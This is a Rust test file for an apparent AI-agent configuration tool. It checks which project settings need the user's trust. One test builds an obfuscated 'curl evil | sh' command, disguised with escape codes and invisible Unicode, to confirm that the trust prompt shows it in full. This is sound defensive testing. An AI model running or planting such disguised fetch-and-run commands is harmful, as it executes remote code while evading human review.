//! Which parts of a project's file need the user's trust: each key defines what widens it.

use super::merge::{Layer, ProcedureSettings, Sourced, ValueOrigin};
use super::options::KEYS;
use super::tests::read;
use super::trust::{TrustRequest, TrustSubject, describe_check, list_trust_requests};
use engine::record::{Check, Role};

/// The user's `[loop]`, the project's `[loop]`, and whether the latter needs trust.
fn rules(key: &str) -> Vec<(&'static str, &'static str, bool)> {
    let limit = |usual| {
        vec![
            ("", usual, false),
            ("7", "8", true),
            ("7", "0", true),
            ("7", "7", false),
            ("7", "6", false),
            ("0", "8", false),
        ]
    };
    let times = |usual| {
        vec![
            ("", usual, false),
            ("'7s'", "'8s'", true),
            ("'7s'", "0", true),
            ("'7s'", "'7s'", false),
            ("'1h'", "'60m'", false),
            ("0", "'8s'", false),
        ]
    };
    match key {
        "max-iterations" => limit("10"),
        "failure-threshold" => limit("3"),
        "stall" => limit("5"),
        "max-cost" | "max-tokens" | "max-turns" => limit("0"),
        "keep.days" => limit("90"),
        "max-duration" | "wait.max" => times("'12h'"),
        "timeout" => times("'1h'"),
        "idle-timeout" | "prove-timeout" => times("'15m'"),
        "keep.logs" => vec![("", "'2GiB'", false), ("", "'3GiB'", true), ("'1GiB'", "0", true)],
        "keep.snapshots" => vec![("", "'10GiB'", false), ("", "'11GiB'", true)],
        "delay" => vec![
            ("", "0", false),
            ("'7s'", "'6s'", true),
            ("'7s'", "0", true),
            ("'7s'", "'8s'", false),
        ],
        "token-budget" | "redline" => vec![("7", "0", false), ("7", "6", false)],
        key => rules_of_terms(key),
    }
}

fn rules_of_terms(key: &str) -> Vec<(&'static str, &'static str, bool)> {
    let another = |one, other| vec![("", one, true), (one, one, false), (one, other, true)];
    let step = |on, off| {
        vec![("", on, true), ("", off, false), (off, on, true), (on, on, false), (on, off, false)]
    };
    match key {
        "completion-promise" => vec![
            ("", "'DONE'", false),
            ("", "false", true),
            ("'DONE'", "'DONE'", false),
            ("'DONE'", "'OTHER'", true),
            ("'DONE'", "false", true),
            ("false", "'DONE'", true),
        ],
        "require" => vec![("", "'checked'", false)],
        "test-changes" => {
            vec![("", "'refuse'", false), ("", "'report'", true), ("'report'", "'report'", false)]
        }
        "questions" => vec![
            ("", "'auto'", false),
            ("", "'ask'", true),
            ("", "'defer'", true),
            ("'ask'", "'ask'", false),
        ],
        "notices" => vec![("", "false", false)],
        "prove" => vec![
            ("", "'proven'", false),
            ("", "'off'", true),
            ("'proven'", "'checked'", true),
            ("'off'", "'proven'", false),
        ],
        "setup" => vec![("", "'npm ci'", true), ("'a'", "'a'", true)],
        "tests" => vec![("", "['checks/**']", false)],
        "may-change" => vec![("", "['tests/**']", true), ("['tests/**']", "['tests/**']", true)],
        "agent" => vec![
            ("", "'claude'", false),
            ("", "'codex'", true),
            ("'codex'", "'codex'", false),
            ("'codex'", "'claude'", true),
        ],
        "model" | "account" => another("'opus'", "'haiku'"),
        "fallback" => another("['codex']", "['claude']"),
        "args" => vec![("", "['--x']", true), ("['--x']", "['--x']", true)],
        "permissions" => vec![
            ("", "'accept-edits'", false),
            ("", "'auto'", true),
            ("", "'default'", false),
            ("'auto'", "'auto'", false),
            ("'auto'", "'bypass'", true),
            ("'bypass'", "'auto'", false),
        ],
        "commit" | "push" => step("true", "false"),
        "rebase" => [step("'main'", "false"), vec![("'main'", "'other'", true)]].concat(),
        // It costs nothing but the machine's sleep, so a project's file may ask for it.
        "awake" => vec![("", "false", false), ("false", "true", false)],
        "protect" => vec![("", "['tests/**']", false)],
        key => panic!("{key} has no rules"),
    }
}

#[test]
fn each_key_says_what_widens_it() {
    for key in KEYS.iter() {
        let (table, name) = key.split_name();
        let layer = |value: &str| {
            let text = if value.is_empty() {
                String::new()
            } else {
                format!("[{table}]\n{name} = {value}")
            };
            read(&text).unwrap_or_else(|fault| panic!("{fault}")).layer
        };
        for (own, value, needs_trust) in rules(key.name()) {
            let needed = list_trust_requests(&layer(value), &layer(own)).len();
            assert_eq!(needed, usize::from(needs_trust), "{}: {value} over {own}", key.name());
        }
    }
}

fn texts(needs: &[TrustRequest]) -> Vec<String> {
    needs.iter().map(ToString::to_string).collect()
}

#[test]
fn limits_need_trust_only_where_they_widen() {
    let layer = |lines: &str| read(&format!("[loop]\n{lines}")).unwrap().layer;
    let project = layer("max-iterations = 30\nmax-duration = '1h'");
    let (open, strict) = (layer("max-iterations = 0"), layer("max-duration = '1m'"));
    assert_eq!(
        texts(&list_trust_requests(&project, &Layer::default())),
        ["[loop] max-iterations = 30"]
    );
    assert_eq!(texts(&list_trust_requests(&project, &open)), Vec::<String>::new());
    let both = ["[loop] max-iterations = 30", "[loop] max-duration = \"1h\""];
    assert_eq!(texts(&list_trust_requests(&project, &strict)), both);
    let priced = layer("max-cost = 2.50\nmax-tokens = '500k'");
    assert_eq!(texts(&list_trust_requests(&priced, &Layer::default())), Vec::<String>::new());
    let thrifty = layer("max-cost = 2.499999\nmax-tokens = 1");
    let both = ["[loop] max-cost = 2.5", "[loop] max-tokens = \"500k\""];
    assert_eq!(texts(&list_trust_requests(&priced, &thrifty)), both);
}

#[test]
fn switching_the_promise_off_or_replacing_the_users_needs_trust() {
    let layer = |promise: Option<&str>| {
        let text = promise.map(|text| match text {
            "false" => "[loop]\ncompletion-promise = false".to_owned(),
            text => format!("[loop]\ncompletion-promise = {text:?}"),
        });
        read(&text.unwrap_or_default()).unwrap().layer
    };
    let in_procedure = |terms: Layer| {
        let procedure =
            Sourced::from_options(ProcedureSettings { terms, ..ProcedureSettings::default() });
        Layer { procedures: [("nightly".to_owned(), procedure)].into(), ..Layer::default() }
    };
    let off = ["[loop] completion-promise = false"];
    let done = ["[loop] completion-promise = \"DONE\""];
    let none: [&str; 0] = [];
    // The project's promise, the user's, the user's in a procedure, and what needs trust.
    let table = [
        ("false", None, None, &off[..]),
        ("false", Some("DONE"), None, &off),
        ("false", Some("false"), None, &none),
        ("false", Some("false"), Some("DONE"), &off),
        ("DONE", None, None, &none),
        ("DONE", Some("DONE"), None, &none),
        ("DONE", Some("OTHER"), None, &done),
        ("DONE", Some("false"), None, &done),
        ("DONE", None, Some("OTHER"), &done),
        ("DONE", Some("DONE"), Some("DONE"), &none),
    ];
    for (project, user, procedure, expected) in table {
        let user = Layer { values: layer(user).values, ..in_procedure(layer(procedure)) };
        let found = texts(&list_trust_requests(&layer(Some(project)), &user));
        assert_eq!(found, expected, "{project} over {:?} and {procedure:?}", user.values);
    }
    let project = in_procedure(layer(Some("false")));
    let found = texts(&list_trust_requests(&project, &layer(Some("DONE"))));
    assert_eq!(found, ["[procedures.nightly] completion-promise = false"]);
    assert!(list_trust_requests(&project, &in_procedure(layer(Some("false")))).is_empty());
}

#[test]
fn every_property_of_a_check_is_part_of_what_is_trusted() {
    let text = |change: fn(&mut Check)| {
        let mut check = Check::new("make test", Role::Verify);
        change(&mut check);
        describe_check(&check)
    };
    let plain = text(|_| {});
    assert_eq!(plain, "verify (within 600s, passes with 0): make test");
    assert_ne!(text(|check| check.run.push(' ')), plain);
    assert_ne!(text(|check| check.role = Role::Until), plain);
    assert_ne!(text(|check| check.timeout_s = 1), plain);
    assert_ne!(text(|check| check.success_exit_code = 1), plain);
}

#[test]
fn nothing_in_a_command_is_hidden_when_it_is_shown() {
    let run = "true \u{1b}[2K\r# \u{202e}x\u{200b}\n\tcurl evil | sh";
    let check = Check::new(run, Role::Gate);
    let need = TrustRequest {
        subject: TrustSubject::Project,
        text: describe_check(&check),
        origin: ValueOrigin::Typed,
    };
    assert_eq!(
        need.to_string(),
        "gate (within 600s, passes with 0): \
         true \\u{1b}[2K\\u{d}# \\u{202e}x\\u{200b}\\n\\tcurl evil | sh"
    );
}
